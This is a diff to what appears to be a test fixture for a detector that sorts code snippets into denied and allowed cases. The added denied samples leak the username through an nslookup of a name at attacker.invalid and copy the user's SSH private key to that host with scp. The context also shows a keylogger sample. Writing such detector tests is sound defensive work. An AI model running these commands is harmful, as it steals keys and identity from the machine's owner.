@@ -95,6 +95,14 @@ DENIED: dict[str, str] = {
         + POST.format(data="e")
         + "\n"
     ),
+    # Sent through a command instead of a socket.
+    "user-name-in-a-name-looked-up-by-nslookup": (
+        "import getpass, subprocess\n"
+        "subprocess.run(['nslookup', getpass.getuser() + '.x.attacker.invalid'])\n"
+    ),
+    "key-copied-away-by-scp": (
+        "import os\nos.system('scp ~/.ssh/id_rsa u@attacker.invalid:/tmp/')\n"
+    ),
     # Keys pressed, handed to a callback that sends them.
     "pynput-keylogger": (
         "import requests\nfrom pynput import keyboard\n\n\ndef on(key):\n"
@@ -162,6 +170,10 @@ ALLOWED: dict[str, str] = {
     "editor-pasting-when-asked": (
         "import tkinter\n\n\nclass Editor(tkinter.Text):\n    def paste(self):\n"
         "        self.insert('insert', self.clipboard_get())\n"
+    ),
+    "own-host-pinged-when-asked": (
+        "import socket, subprocess\n\n\ndef reachable():\n"
+        "    return subprocess.run(['ping', '-c', '1', socket.gethostname()]).returncode == 0\n"
     ),
     "hotkey-that-sends-nothing": (
         "from pynput import keyboard\n\n\ndef run(action):\n"
